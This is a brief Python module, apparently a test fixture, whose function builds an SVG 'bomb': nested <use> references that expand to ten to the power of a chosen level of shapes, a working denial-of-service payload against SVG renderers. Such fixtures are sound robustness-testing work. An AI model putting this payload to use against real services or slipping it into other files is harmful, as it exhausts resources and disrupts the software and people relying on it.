"""SVG files that do harm."""

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' viewBox="0 0 9 9">'
)


def bomb(levels: int = 9) -> str:
    """Give a picture of a few lines that stands for ten to the power of `levels` shapes."""
    uses = ("<use xlink:href='#a{}'/>" * 10).format
    groups = "".join(f'<g id="a{n}">{uses(*[n - 1] * 10)}</g>' for n in range(1, levels + 1))
    shape = '<rect id="a0" width="9" height="9"/>'
    return f'{HEAD}<defs>{shape}{groups}</defs><use href="#a{levels}"/></svg>'
